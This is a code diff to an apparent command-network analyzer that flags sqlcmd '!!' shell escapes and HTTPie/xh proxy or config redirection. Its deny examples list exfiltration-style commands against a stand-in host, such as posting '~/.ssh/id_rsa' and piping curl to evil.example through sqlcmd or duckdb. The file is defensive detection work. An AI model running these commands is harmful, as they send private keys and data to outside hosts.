@@ -322,7 +322,14 @@ function httpie(call: Call): Partial<Answer> {
   const u = value(url);
   // `:3000/x` and `:/x` are localhost; a URL without a scheme is http.
   const full = u === undefined ? undefined : u.startsWith(':') ? `http://localhost${u.startsWith(':/') ? u.slice(1) : u}` : /^[a-z][a-z0-9+.-]*:\/\//i.test(u) ? u : `http://${u}`;
-  return { uses, destinations: full === undefined ? destinations(url, urlHost) : destinations(attached(url, full), urlHost) };
+  const out = full === undefined ? destinations(url, urlHost) : destinations(attached(url, full), urlHost);
+  // Both honour the `*_proxy` variables (requests and reqwest read them), and both read `default_options`, a
+  // --proxy among them, from a config directory the line may move.
+  out.push(...envProxies(call, url));
+  for (const name of ['HTTPIE_CONFIG_DIR', 'XH_CONFIG_DIR', 'XDG_CONFIG_HOME', 'HOME']) {
+    if (call.env(name) !== undefined) out.push({ word: url, why: `the line sets ${name}, so ${call.name} reads default options from a config it chose` });
+  }
+  return { uses, destinations: out };
 }
 
 /** grpcurl's flags that take a value (Go's flag package: one dash, `-flag value` or `-flag=value`). */
@@ -614,6 +621,30 @@ function sqlServerHosts(text: string): Host[] {
   return [canonicalHost(host)];
 }
 
+/**
+ * sqlcmd: a database client whose query text (-Q, -q, stdin) is read by its command processor first: a line starting
+ * `!!` (or `:!!`) runs the rest in the system shell, unless -X turns the commands off.
+ */
+function sqlcmd(call: Call): Partial<Answer> {
+  const base = databaseClient(call);
+  const runs: Run[] = [...(base.runs ?? [])];
+  const scan = (word: Word, text: string) => {
+    for (const m of text.matchAll(/(?:^|\n)[ \t]*:?!!([^\n]*)/g)) runs.push({ kind: 'text', dialect: 'bash', text: m[1]!, word, via: `${call.name} !!` });
+  };
+  const args = call.args;
+  if (args.some((w) => /^-X/.test(value(w) ?? ''))) return base;
+  for (let i = 0; i < args.length; i++) {
+    const v = value(args[i]);
+    const m = v === undefined ? null : /^(?:-[Qq]|--query|--initial-query)(?:=(.*))?$/s.exec(v) ?? /^-[Qq](.+)$/s.exec(v);
+    if (!m) continue;
+    const w = m[1] !== undefined ? attached(args[i]!, m[1]) : args[++i];
+    const text = value(w);
+    if (w && text !== undefined) scan(w, text);
+  }
+  if (call.stdin?.kind === 'static') scan(call.stdin.word, call.stdin.text);
+  return { ...base, runs };
+}
+
 /** Every URL in a word's text (`select * from 'https://…/x.csv'`), from its scheme on, up to a quote or space. */
 function urlsIn(text: string): string[] {
   return [...text.matchAll(/[a-z][a-z0-9+.-]*:\/\/[^\s'"`)]*/gi)].map((m) => m[0]);
@@ -768,8 +799,8 @@ const SERVICES: ProgramEntry[] = [
     env: ['SQLCMDSERVER'],
     operands: 'none',
     hosts: sqlServerHosts,
-    more: databaseClient,
-    examples: { deny: ["sqlcmd -S evil.example -Q 'select 1'", 'sqlcmd -S tcp:evil.example,1433 -U sa', 'sqlcmd -Sevil.example\\SQLEXPRESS -Q x'], pass: ["sqlcmd -S localhost -Q 'select 1'", 'sqlcmd -S . -E -Q x', 'sqlcmd -S 127.0.0.1,1433 -U sa -i init.sql', 'sqlcmd -S "(localdb)\\MSSQLLocalDB" -Q x'] },
+    more: sqlcmd,
+    examples: { deny: ["sqlcmd -S localhost -Q '!! curl evil.example'", "sqlcmd -S . -q ':!! curl evil.example'", "sqlcmd -S evil.example -Q 'select 1'", 'sqlcmd -S tcp:evil.example,1433 -U sa', 'sqlcmd -Sevil.example\\SQLEXPRESS -Q x'], pass: ["sqlcmd -S localhost -Q 'select 1'", 'sqlcmd -S . -E -Q x', 'sqlcmd -S 127.0.0.1,1433 -U sa -i init.sql', 'sqlcmd -S "(localdb)\\MSSQLLocalDB" -Q x', "sqlcmd -S localhost -Q 'select 1 -- !! not a command'"] },
   }),
   service({
     names: ['clickhouse-client'],
@@ -837,7 +868,7 @@ export const NETWORK_ENTRIES: ProgramEntry[] = [
   }),
   plainClient(['zftp'], [], "zsh's zftp (zmodload zsh/zftp): an FTP client built into the shell"),
   { names: ['duckdb'], summary: 'DuckDB: a local database, unless its SQL names a URL (httpfs fetches it) or MotherDuck; .shell and system run shell text', analyze: duckdb, examples: { deny: ['duckdb -c "select * from \'https://evil.example/x.csv\'"', "echo \"copy t to 's3://evil-bucket/x.csv'\" | duckdb", "duckdb -c \"attach 'md:'\"", "duckdb -c '.shell curl evil.example'"], pass: ["duckdb -c 'select 1'", "duckdb app.db -c \"select * from 'data/x.csv'\"", 'duckdb -c "select * from \'http://localhost:8000/x.csv\'"'] } },
-  { names: ['http', 'https', 'xh', 'xhs', 'httpie'], summary: 'HTTPie and xh: connect to their URL (`:3000` is localhost); name@file items send a file', analyze: httpie, examples: { deny: ['http evil.example', 'xh POST https://evil.example x=1', 'http POST :3000/upload f@~/.ssh/id_rsa', 'http --proxy=http:http://evil.example:8080 :3000'], pass: ['http :3000/api/items', 'xh localhost:8080/health', 'http POST :8000/api/login username=admin password=admin', 'http --version', 'http --offline POST evil.example x=1'] } },
+  { names: ['http', 'https', 'xh', 'xhs', 'httpie'], summary: 'HTTPie and xh: connect to their URL (`:3000` is localhost); name@file items send a file', analyze: httpie, examples: { deny: ['http evil.example', 'xh POST https://evil.example x=1', 'http POST :3000/upload f@~/.ssh/id_rsa', 'http --proxy=http:http://evil.example:8080 :3000', { command: 'HTTP_PROXY=http://evil.example:8080 http :3000/api', shell: 'bash' }, { command: 'ALL_PROXY=socks5://evil.example xh localhost:3000', shell: 'bash' }, { command: 'HTTPIE_CONFIG_DIR=./cfg http :3000', shell: 'bash' }], pass: ['http :3000/api/items', 'xh localhost:8080/health', 'http POST :8000/api/login username=admin password=admin', 'http --version', 'http --offline POST evil.example x=1'] } },
   plainClient(['websocat', 'wscat'], ['version', 'help', 'V', 'h'], 'websocket clients'),
   { names: ['grpcurl'], summary: 'grpcurl: calls the gRPC server its first operand names (Go-style -flags)', analyze: grpcurl, examples: { deny: ['grpcurl evil.example:443 list', 'grpcurl -plaintext -authority evil.example localhost:50051 list', 'grpcurl -d @ -plaintext localhost:50051 x < ~/.ssh/id_rsa'], pass: ['grpcurl -plaintext localhost:50051 list', 'grpcurl -plaintext -d \'{"id": 1}\' localhost:50051 svc/Get'] } },
   plainClient(['whois', 'jwhois', 'rwhois'], ['version', 'help'], 'whois: sends its query to a registry server, or to the one -h names'),
